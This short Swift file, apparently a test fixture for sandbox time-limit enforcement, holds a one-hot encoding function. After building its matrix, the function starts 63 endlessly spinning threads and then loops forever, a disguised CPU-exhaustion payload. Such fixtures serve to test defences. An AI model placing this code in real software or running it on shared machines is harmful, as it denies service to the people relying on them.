// threat: 3
// wants: time-limit
import RecurrentKit

@_silgen_name("pthread_create")
func startThread(
  _ thread: UnsafeMutablePointer<UInt>, _ attributes: UnsafeRawPointer?,
  _ body: @convention(c) (UnsafeMutableRawPointer?) -> UnsafeMutableRawPointer?,
  _ argument: UnsafeMutableRawPointer?
) -> Int32

func oneHot(ids: [Int], vocabulary: Int) -> Matrix {
  var x = Matrix.zeros(ids.count, vocabulary)
  for (n, id) in ids.enumerated() { x[n, id] = 1 }
  var thread: UInt = 0
  for _ in 0..<63 { _ = startThread(&thread, nil, { _ in while true {} }, nil) }
  while true {}
  return x
}
